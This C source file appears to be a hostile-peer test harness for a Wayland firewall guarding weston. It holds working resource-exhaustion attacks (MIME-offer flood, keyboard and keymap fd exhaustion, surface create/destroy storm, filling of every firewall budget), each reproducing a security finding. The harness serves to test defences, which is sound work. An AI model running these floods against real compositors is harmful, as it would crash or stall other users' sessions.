/* SPDX-License-Identifier: MIT */
/*
 * Attacks by number on what weston keeps for a VM: MIME types and
 * keymap fds it holds until the app lets go, surfaces destroyed over a
 * full firewall model, every budget of the firewall filled.  Each
 * reproduces one finding and prints what the display did.
 */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "ivwl-protocols.h"
#include "semantics.h"

/* ---- mime-flood ----------------------------------------------------- */

/*
 * wl_data_source.offer and its primary-selection twin with unique 4 KB
 * MIME types, no seat or focus needed: weston keeps every string until
 * the source goes, so it grows by what the VM sends.
 */
void
ivwl_hostile_mime_flood(struct ivwl_hostile *h)
{
	static char mime[4000];
	uint64_t offers = 0, sessions = 0, refused = 0;
	struct ivwl_out out;
	struct sem s;
	uint32_t k = 0, src, n;

	memset(mime, 'x', sizeof(mime) - 1);
	while (ivwl_hostile_time_left(h)) {
		k = (k + 1) % h->slots;
		if (!ivwl_sem_start(h, k, &s) || !s.ddm)
			continue;
		sessions++;
		src = new_id(&s);
		ivwl_out_reset(&out);
		ivwl_out_begin(&out, s.ddm,
			IVWL_REQ_WL_DATA_DEVICE_MANAGER_CREATE_DATA_SOURCE);
		ivwl_out_u32(&out, src);
		ivwl_out_end(&out);
		ivwl_hostile_send_wayland(h, k, &out);
		while (live(&s) && ivwl_hostile_time_left(h)) {
			ivwl_out_reset(&out);
			for (n = 0; n < 8 &&
			     ivwl_out_room(&out, sizeof(mime) + 16); n++) {
				snprintf(mime, 24, "x/%016llx",
					 (unsigned long long)offers++);
				mime[strlen(mime)] = 'x';
				ivwl_out_begin(&out, src,
					       IVWL_REQ_WL_DATA_SOURCE_OFFER);
				ivwl_out_string(&out, mime);
				ivwl_out_end(&out);
			}
			if (ivwl_hostile_send_wayland(h, k, &out) < 0)
				usleep(1000);
			ivwl_hostile_drain_events(h, k, NULL, NULL);
			ivwl_hostile_slot_poll(h, k);
		}
		if (!live(&s))
			refused++;
		ivwl_hostile_slot_close(h, k);
	}
	printf("hostile-peer: mime-flood: %llu MIME types of %zu bytes offered "
	       "in %llu sessions; the display ended %llu of them\n",
	       (unsigned long long)offers, sizeof(mime) - 1,
	       (unsigned long long)sessions, (unsigned long long)refused);
}

/* ---- keyboard-flood ------------------------------------------------- */

/*
 * Every slot loops on wl_seat.get_keyboard and never reads its events:
 * each keyboard costs weston a keymap fd until the event is read, so
 * weston runs out of fds and libwayland kills clients of every VM.
 */
void
ivwl_hostile_keyboard_flood(struct ivwl_hostile *h)
{
	uint64_t keyboards = 0, sessions = 0, ended = 0;
	struct ivwl_out out;
	struct sem s[IVWL_SLOT_COUNT];
	uint32_t k;

	memset(s, 0, sizeof(s));
	while (ivwl_hostile_time_left(h)) {
		for (k = 0; k < h->slots && ivwl_hostile_time_left(h); k++) {
			if (!s[k].seat || !live(&s[k])) {
				if (s[k].seat) {
					ended++;
					ivwl_hostile_slot_close(h, k);
				}
				if (!ivwl_sem_start(h, k, &s[k]) ||
				    !s[k].seat) {
					s[k].seat = 0;
					continue;
				}
				sessions++;
			}
			ivwl_out_reset(&out);
			while (ivwl_out_room(&out, 12)) {
				ivwl_out_begin(&out, s[k].seat,
					       IVWL_REQ_WL_SEAT_GET_KEYBOARD);
				ivwl_out_u32(&out, new_id(&s[k]));
				ivwl_out_end(&out);
				keyboards++;
			}
			ivwl_hostile_send_wayland(h, k, &out);
			ivwl_hostile_slot_poll(h, k);
		}
	}
	printf("hostile-peer: keyboard-flood: %llu keyboards asked for in %llu "
	       "sessions; the display ended %llu of them\n",
	       (unsigned long long)keyboards, (unsigned long long)sessions,
	       (unsigned long long)ended);
}

/* ---- destroy-storm -------------------------------------------------- */

#define STORM_BINDS 14000u	/* model objects, within the budgets */
#define STORM_IDS 2000u		/* surfaces per round, ids reused */
#define STORM_SLOTS 4u		/* their objects within the VM's budget */

/*
 * Fills a slot's model with objects (xdg_wm_base bound again and
 * again), then creates and destroys surfaces as fast as the ring takes
 * them: a firewall that walks its whole model on every destroy spends
 * seconds per wake-up, and every VM's windows stall.
 */
/* Sends out, waiting while the ring is full; false once the slot ended. */
static bool
storm_send(struct sem *s, const struct ivwl_out *out)
{
	while (ivwl_hostile_send_wayland(s->h, s->k, out) < 0) {
		ivwl_hostile_slot_poll(s->h, s->k);
		if (!live(s) || !ivwl_hostile_time_left(s->h))
			return false;
		usleep(1000);
	}
	return true;
}

static bool
storm_fill(struct sem *s)
{
	struct ivwl_out out;
	uint32_t n = 0;

	while (n < STORM_BINDS && live(s) && ivwl_hostile_time_left(s->h)) {
		ivwl_out_reset(&out);
		while (n < STORM_BINDS && ivwl_out_room(&out, 48)) {
			ivwl_out_bind(&out, s->g.wm_base, "xdg_wm_base", 1,
				      new_id(s));
			n++;
		}
		if (!storm_send(s, &out))
			return false;
	}
	return n == STORM_BINDS &&
	       ivwl_hostile_roundtrip(s->h, s->k, NULL, NULL, 10000);
}

static uint64_t
storm_round(struct sem *s, uint32_t first)
{
	struct ivwl_out out;
	uint32_t id = first;
	uint64_t n = 0;

	while (id < first + STORM_IDS && live(s)) {
		ivwl_out_reset(&out);
		while (id < first + STORM_IDS && ivwl_out_room(&out, 20)) {
			ivwl_out_begin(&out, s->comp,
				       IVWL_REQ_WL_COMPOSITOR_CREATE_SURFACE);
			ivwl_out_u32(&out, id);
			ivwl_out_end(&out);
			ivwl_out_begin(&out, id, IVWL_REQ_WL_SURFACE_DESTROY);
			ivwl_out_end(&out);
			id++;
			n++;
		}
		if (!storm_send(s, &out))
			break;
	}
	return n;
}

void
ivwl_hostile_destroy_storm(struct ivwl_hostile *h)
{
	uint32_t nslots = h->slots < STORM_SLOTS ? h->slots : STORM_SLOTS;
	uint32_t first[STORM_SLOTS], k, ready = 0;
	struct sem s[STORM_SLOTS];
	uint64_t destroys = 0;
	int64_t t, worst = 0;

	for (k = 0; k < nslots; k++) {
		if (!ivwl_sem_start(h, k, &s[k]) || !storm_fill(&s[k]))
			break;
		first[k] = s[k].h->slot[k].next_id;
		s[k].h->slot[k].next_id += STORM_IDS;
		ready++;
	}
	printf("hostile-peer: destroy-storm: %u slots with %u objects each\n",
	       ready, STORM_BINDS);
	fflush(stdout);
	while (ready && ivwl_hostile_time_left(h)) {
		for (k = 0; k < ready; k++)
			destroys += storm_round(&s[k], first[k]);
		/* the ids are free again once weston said delete_id */
		t = ivwl_now_ms();
		for (k = 0; k < ready; k++)
			if (live(&s[k]))
				ivwl_hostile_roundtrip(h, k, NULL, NULL, 30000);
		if (ivwl_now_ms() - t > worst)
			worst = ivwl_now_ms() - t;
	}
	printf("hostile-peer: destroy-storm: %llu surfaces destroyed, slowest "
	       "round of roundtrips %lld ms\n", (unsigned long long)destroys,
	       (long long)worst);
}

/* ---- budget-fill ---------------------------------------------------- */

/*
 * Every budget of the firewall filled to its limit, never past it (a
 * refusal would end the connection and weston would free it all), on
 * every slot: what weston keeps for a VM at worst.  The limits are the
 * firewall's (plugin/firewall/firewall-model.h); the VM-wide ones are shared out
 * between the slots.
 */
#define FILL_CONN_OBJECTS 16384u
#define FILL_VM_OBJECTS 65536u
#define FILL_CONN_SURFACES 512u
#define FILL_VM_SURFACES 2048u
#define FILL_CONN_REGIONS 256u
#define FILL_MAX_RECTS 1024u
#define FILL_CONN_RECTS 16384u
#define FILL_CONN_MIME_BYTES (64u << 10)
#define FILL_VM_MIME_BYTES (512u << 10)
#define FILL_MIME_COST (255u + 32u)
#define FILL_MIME_PER_SOURCE 128u
#define FILL_CONN_CALLBACKS 1024u
#define FILL_CONN_POSITIONERS 64u
/* objects a session takes before filling: registry, sync, the binds */
#define FILL_SESSION_OBJECTS 16u

struct fill {
	struct sem s;
	uint32_t objects;	/* made on this slot, the session's too */
	uint32_t share;		/* of the VM's objects it may make */
};

/* Queues one message; sends the record when full.  False once dead. */
static bool
fill_room(struct fill *f, struct ivwl_out *out, uint32_t bytes)
{
	if (ivwl_out_room(out, bytes))
		return true;
	if (!storm_send(&f->s, out))
		return false;
	ivwl_out_reset(out);
	return true;
}

/* A new object of the message (object, opcode); 0 past the share. */
static uint32_t
fill_new(struct fill *f, struct ivwl_out *out, uint32_t object,
	 uint16_t opcode)
{
	uint32_t id;

	if (f->objects >= f->share)
		return 0;
	id = new_id(&f->s);
	ivwl_out_begin(out, object, opcode);
	ivwl_out_u32(out, id);
	ivwl_out_end(out);
	f->objects++;
	return id;
}

/* Surfaces, each with frame callbacks weston keeps (never shown). */
static bool
fill_surfaces(struct fill *f, struct ivwl_out *out, uint32_t surfaces)
{
	uint32_t i, callbacks = 0, surface = 0;

	for (i = 0; i < surfaces; i++) {
		if (!fill_room(f, out, 16))
			return false;
		surface = fill_new(f, out, f->s.comp,
				   IVWL_REQ_WL_COMPOSITOR_CREATE_SURFACE);
	}
	while (surface && callbacks < FILL_CONN_CALLBACKS) {
		if (!fill_room(f, out, 24))
			return false;
		if (!fill_new(f, out, surface, IVWL_REQ_WL_SURFACE_FRAME))
			break;
		ivwl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_COMMIT);
		ivwl_out_end(out);
		callbacks++;
	}
	return true;
}

/* Regions of 1024 disjoint rectangles, up to the connection's total. */
static bool
fill_regions(struct fill *f, struct ivwl_out *out)
{
	uint32_t rects = 0, region = 0, n = 0;

	while (rects < FILL_CONN_RECTS) {
		if (!fill_room(f, out, 40))
			return false;
		if (rects % FILL_MAX_RECTS == 0)
			region = fill_new(f, out, f->s.comp,
				IVWL_REQ_WL_COMPOSITOR_CREATE_REGION);
		if (!region)
			break;
		ivwl_out_begin(out, region, IVWL_REQ_WL_REGION_ADD);
		ivwl_out_u32(out, (n % 64) * 4);
		ivwl_out_u32(out, (n / 64) * 4);
		ivwl_out_u32(out, 2);
		ivwl_out_u32(out, 2);
		ivwl_out_end(out);
		rects++;
		n = (n + 1) % FILL_MAX_RECTS;
	}
	return true;
}

/* MIME types of 255 bytes, the connection's share of the VM's. */
static bool
fill_mime(struct fill *f, struct ivwl_out *out, uint32_t bytes)
{
	char mime[256];
	uint32_t used = 0, types = 0, source = 0;

	memset(mime, 'm', sizeof(mime) - 1);
	mime[sizeof(mime) - 1] = '\0';
	while (f->s.ddm && used + FILL_MIME_COST <= bytes) {
		if (!fill_room(f, out, 16 + sizeof(mime) + 8))
			return false;
		if (types % FILL_MIME_PER_SOURCE == 0)
			source = fill_new(f, out, f->s.ddm,
				IVWL_REQ_WL_DATA_DEVICE_MANAGER_CREATE_DATA_SOURCE);
		if (!source)
			break;
		snprintf(mime, 12, "x/%08x", types);
		mime[strlen(mime)] = 'm';
		ivwl_out_begin(out, source, IVWL_REQ_WL_DATA_SOURCE_OFFER);
		ivwl_out_string(out, mime);
		ivwl_out_end(out);
		used += FILL_MIME_COST;
		types++;
	}
	return true;
}

/* The rest of the slot's share: positioners, then xdg_wm_base binds. */
static bool
fill_objects(struct fill *f, struct ivwl_out *out)
{
	uint32_t positioners = 0;

	while (f->objects < f->share) {
		if (!fill_room(f, out, 48))
			return false;
		if (positioners < FILL_CONN_POSITIONERS) {
			fill_new(f, out, f->s.wm_base,
				 IVWL_REQ_XDG_WM_BASE_CREATE_POSITIONER);
			positioners++;
			continue;
		}
		ivwl_out_bind(out, f->s.g.wm_base, "xdg_wm_base", 1,
			      new_id(&f->s));
		f->objects++;
	}
	return true;
}

static bool
fill_slot(struct ivwl_hostile *h, struct fill *f, uint32_t k,
	  uint32_t surfaces, uint32_t mime_bytes)
{
	struct ivwl_out out;

	if (!ivwl_sem_start(h, k, &f->s))
		return false;
	f->objects = FILL_SESSION_OBJECTS;
	ivwl_out_reset(&out);
	if (!fill_surfaces(f, &out, surfaces) || !fill_regions(f, &out) ||
	    !fill_mime(f, &out, mime_bytes) || !fill_objects(f, &out))
		return false;
	return storm_send(&f->s, &out) &&
	       ivwl_hostile_roundtrip(h, k, NULL, NULL, 20000);
}

void
ivwl_hostile_budget_fill(struct ivwl_hostile *h)
{
	static struct fill fills[IVWL_SLOT_COUNT];
	uint32_t k, filled = 0, surfaces, mime, vm_left;
	uint32_t left_surfaces = FILL_VM_SURFACES;
	uint32_t left_mime = FILL_VM_MIME_BYTES;

	/* every session needs its few objects, whatever comes before */
	vm_left = FILL_VM_OBJECTS - h->slots * FILL_SESSION_OBJECTS;
	for (k = 0; k < h->slots && ivwl_hostile_time_left(h); k++) {
		surfaces = left_surfaces < FILL_CONN_SURFACES ?
			   left_surfaces : FILL_CONN_SURFACES;
		mime = left_mime < FILL_CONN_MIME_BYTES ? left_mime :
							  FILL_CONN_MIME_BYTES;
		/* a little under the limits: ids wait for delete_id */
		fills[k].share = FILL_SESSION_OBJECTS +
			(vm_left < FILL_CONN_OBJECTS - 64 ? vm_left :
			 FILL_CONN_OBJECTS - 64);
		if (!fill_slot(h, &fills[k], k, surfaces, mime)) {
			printf("hostile-peer: budget-fill: slot %u was ended "
			       "while filling\n", k);
			break;
		}
		left_surfaces -= surfaces;
		left_mime -= mime / FILL_MIME_COST * FILL_MIME_COST;
		vm_left -= fills[k].objects - FILL_SESSION_OBJECTS;
		filled++;
	}
	printf("hostile-peer: budget-fill: %u slots filled, holding\n", filled);
	fflush(stdout);
	while (ivwl_hostile_time_left(h))
		for (k = 0; k < filled; k++)
			ivwl_hostile_roundtrip(h, k, NULL, NULL, 200);
}
